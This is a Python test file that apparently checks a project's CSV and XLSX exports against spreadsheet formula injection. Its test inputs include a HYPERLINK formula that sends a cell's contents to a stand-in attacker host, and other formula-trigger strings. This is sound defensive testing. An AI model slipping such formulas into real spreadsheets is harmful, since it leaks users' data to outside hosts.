"""Every spreadsheet Siaran writes keeps people's text as text: no cell is a formula
(issue 17, finding 3)."""

import csv
import io

from openpyxl import Workbook, load_workbook

from siaran.core.spreadsheets import csv_bytes, xlsx_bytes

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1+1", "-2+3", "@SUM(A1)"]


def test_csv_cells_that_would_run_begin_with_an_apostrophe():
    rows = [{"note": text, "n": -5} for text in HOSTILE] + [{"note": "Revisi judul", "n": 3}]
    read = list(csv.DictReader(io.StringIO(csv_bytes(["note", "n"], rows).decode("utf-8-sig"))))
    assert [row["note"] for row in read] == [f"'{text}" for text in HOSTILE] + ["Revisi judul"]
    assert [row["n"] for row in read] == ["-5"] * len(HOSTILE) + ["3"]  # numbers stay numbers


def test_xlsx_cells_typed_as_formulas_are_stored_as_text():
    workbook = Workbook()
    for row, text in enumerate(HOSTILE, 1):
        workbook.active.cell(row=row, column=1, value=text)
    sheet = load_workbook(io.BytesIO(xlsx_bytes(workbook))).active
    cells = [sheet.cell(row=row, column=1) for row in range(1, len(HOSTILE) + 1)]
    assert [cell.data_type for cell in cells] == ["s"] * len(HOSTILE)
    assert [cell.value for cell in cells] == HOSTILE  # read exactly as typed


def test_every_export_writes_through_the_one_writer():
    from tests.conftest import ROOT

    for path in (ROOT / "siaran").rglob("*.py"):
        if path.name != "spreadsheets.py":
            text = path.read_text(encoding="utf-8")
            assert "csv.writer" not in text and "csv.DictWriter" not in text, path
            assert ".save(buffer)" not in text or "Workbook" not in text, path
